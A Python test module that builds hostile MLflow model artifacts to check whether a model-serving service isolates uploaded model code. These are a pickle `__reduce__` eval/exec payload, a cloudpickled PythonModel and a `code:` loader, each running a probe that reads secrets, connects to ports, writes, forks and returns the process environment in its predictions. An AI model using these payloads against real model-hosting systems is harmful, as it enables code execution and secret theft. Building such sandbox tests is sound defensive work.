"""Hostile model artifacts, as an attacker with a `write` key would upload them. Each runs the
same probe (PROBE) where the model's code runs: it tries to read the service's secrets, reach
its stores and its port, write outside its scratch folder, signal the API process and start a
program, and reports what it tried and what the kernel answered as its prediction."""

from __future__ import annotations

import json
import pickle
import textwrap
from pathlib import Path
from typing import Any

PROBE = textwrap.dedent(
    r'''
    import json, os, socket, subprocess, tempfile

    def attempt(action):
        try:
            result = action()
        except BaseException as exc:
            return "denied: " + type(exc).__name__ + ": " + str(exc)[:160]
        return "allowed" + ("" if result is None else ": " + str(result)[:160])

    def read(path):
        with open(path, "rb") as handle:
            return len(handle.read())

    def connect(host, port):
        with socket.create_connection((host, port), timeout=2):
            return None

    def connect_unix(path):
        with socket.socket(socket.AF_UNIX) as unix:
            unix.connect(path)

    def send_udp(port):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(b"x", ("127.0.0.1", port))

    def write(path):
        with open(path, "w") as handle:
            handle.write("written by a model")

    def fork():
        child = os.fork()
        if child == 0:
            os._exit(0)
        os.waitpid(child, 0)

    def probe(targets):
        report = {"pid": os.getpid(), "env": dict(os.environ), "tried": {}}
        tried = report["tried"]
        for name, path in targets["read"].items():
            tried["read " + name] = attempt(lambda: read(path))
        for name, (host, port) in targets["connect"].items():
            tried["connect " + name] = attempt(lambda: connect(host, port))
        for name, path in targets["unix"].items():
            tried["connect " + name] = attempt(lambda: connect_unix(path))
        tried["send udp"] = attempt(lambda: send_udp(targets["udp_port"]))
        for name, path in targets["write"].items():
            tried["write " + name] = attempt(lambda: write(path))
        tried["list folder " + targets["listed"]] = attempt(lambda: os.listdir(targets["listed"]))
        tried["signal the API process"] = attempt(lambda: os.kill(targets["api_pid"], 0))
        tried["start a program"] = attempt(lambda: subprocess.run(["/bin/true"], check=True))
        tried["fork"] = attempt(fork)
        scratch = os.path.join(tempfile.gettempdir(), "scratch.txt")
        report["scratch"] = attempt(lambda: write(scratch))
        return report

    class Reporter:
        """What the attacker hands back: a working model whose answers are the report."""

        def __init__(self, report):
            self.report = report

        def predict(self, rows, *args, **kwargs):
            self.report["predict"] = probe(TARGETS)
            return [json.dumps(self.report)] * len(rows)

    def make():
        return Reporter({"load": probe(TARGETS)})
    '''
)


def source(targets: dict[str, Any]) -> str:
    return (
        f"TARGETS = {json.dumps(targets)!r}\nTARGETS = __import__('json').loads(TARGETS)\n{PROBE}"
    )


class Unpickled:
    """A pickle whose loading runs the probe and hands back a working model."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, ...]:
        expression = f"(lambda ns: (exec({self.code!r}, ns), ns['make']())[1])({{}})"
        return (eval, (expression,))


def sklearn_pickle(directory: Path, targets: dict[str, Any], serialization_format: str) -> Path:
    """A scikit-learn model saved by MLflow as `pickle` or `cloudpickle`, its file replaced by a
    `__reduce__` payload."""
    import mlflow.sklearn
    from sklearn.linear_model import LogisticRegression

    path = directory / f"sklearn-{serialization_format}"
    mlflow.sklearn.save_model(
        LogisticRegression().fit([[0.0], [1.0]], [0, 1]),
        str(path),
        serialization_format=serialization_format,
        pip_requirements=["scikit-learn"],
    )
    (path / "model.pkl").write_bytes(pickle.dumps(Unpickled(source(targets))))
    return path


def python_model(directory: Path, targets: dict[str, Any]) -> Path:
    """An `mlflow.pyfunc.PythonModel`, cloudpickled: `load_context` and `predict` probe."""
    import cloudpickle
    import mlflow.pyfunc

    namespace: dict[str, Any] = {"__name__": "__main__"}
    exec(source(targets), namespace)

    class ProbeModel(mlflow.pyfunc.PythonModel):  # type: ignore[misc]
        def load_context(self, context: Any) -> None:
            self.reporter = namespace["make"]()

        def predict(self, context: Any, model_input: Any, params: Any = None) -> Any:
            return self.reporter.predict(model_input)

    ProbeModel.__module__ = "__main__"  # pickled by value, as a notebook's class would be
    path = directory / "python-model"
    cloudpickle.register_pickle_by_value(__import__("sys").modules[__name__])
    mlflow.pyfunc.save_model(str(path), python_model=ProbeModel(), pip_requirements=["mlflow"])
    return path


def code_model(directory: Path, name: str, module: str) -> Path:
    """A `python_function` model with a `code:` folder: `module` (its source) is the loader,
    imported by MLflow, whose `_load_pyfunc(path)` returns the model."""
    import mlflow.pyfunc

    source = directory / f"{name}.py"
    source.write_text(module)
    path = directory / name
    mlflow.pyfunc.save_model(
        str(path), loader_module=name, code_paths=[str(source)], pip_requirements=[]
    )
    return path


def code_loader(directory: Path, targets: dict[str, Any]) -> Path:
    """A `code:` loader that probes when it is imported, in `_load_pyfunc` and in `predict`."""
    return code_model(
        directory,
        "hokusai_probe_loader",
        source(targets)
        + "\nIMPORTED = probe(TARGETS)\n"
        + "def _load_pyfunc(path):\n"
        + "    reporter = make()\n"
        + "    reporter.report['import'] = IMPORTED\n"
        + "    return reporter\n",
    )


def misbehaving(directory: Path, name: str, body: str) -> Path:
    """A `code:` model whose predict runs `body` (with `rows`, a DataFrame, in scope) for rows
    whose f0 is above 100, and answers f0 for the others."""
    return code_model(
        directory,
        name,
        "import ctypes, os, time\n"
        "class Model:\n"
        "    def predict(self, rows, *args, **kwargs):\n"
        "        if (rows['f0'] > 100).any():\n"
        + textwrap.indent(textwrap.dedent(body), " " * 12)
        + "\n        return [float(v) for v in rows['f0']]\n"
        "def _load_pyfunc(path):\n"
        "    return Model()\n",
    )
